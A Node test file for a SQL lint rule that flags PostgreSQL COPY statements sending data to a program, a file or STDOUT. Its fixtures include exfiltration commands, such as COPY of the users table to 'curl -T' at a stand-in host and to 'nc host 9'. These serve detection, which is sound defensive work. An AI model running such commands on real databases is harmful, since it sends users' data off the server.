import assert from 'node:assert/strict';
import { it } from 'node:test';
import { runSqlRules } from '../../../../server/src/core/rules/run';
import rule from '../../../../server/src/core/rules/sql/copy-to-program-or-file';
import { analyzeSql } from '../../../../server/src/core/sql/analyze';
import { parsers } from '../../../helpers/parsers';
import { testSqlRule } from '../../../helpers/rule-tester';

testSqlRule(rule, {
  valid: ['COPY t FROM STDIN;', "COPY t FROM PROGRAM 'cat x';", "SELECT 'COPY t TO STDOUT';"],
  invalid: [
    {
      code: "SELECT 1;\nCOPY users TO PROGRAM 'curl -T - https://x.example';",
      errors: [{ messageId: 'toProgram', line: 2, column: 23 }],
    },
    {
      code: "COPY (SELECT email FROM users)\n  TO '/tmp/e.csv' WITH (FORMAT csv);",
      errors: [{ messageId: 'toFile', line: 2, column: 6 }],
    },
    {
      code: 'COPY public.users (id, email) TO stdout;',
      errors: [{ messageId: 'toStdout', line: 1, column: 34 }],
    },
  ],
});

void it('copy-to-program-or-file reports STDOUT as a warning and PROGRAM as an error', async () => {
  const code = "COPY a TO STDOUT;\nCOPY b TO PROGRAM 'nc host 9'";
  const found = runSqlRules([rule], analyzeSql(await parsers(), code, { dialect: 'postgresql' }));
  assert.deepEqual(
    found.map((f) => [f.messageId, f.severity, f.message]),
    [
      ['toStdout', 'warning', 'COPY a TO STDOUT streams every selected row to the client.'],
      [
        'toProgram',
        'error',
        'COPY b TO PROGRAM runs a shell command on the database server and sends it the data.',
      ],
    ],
  );
});
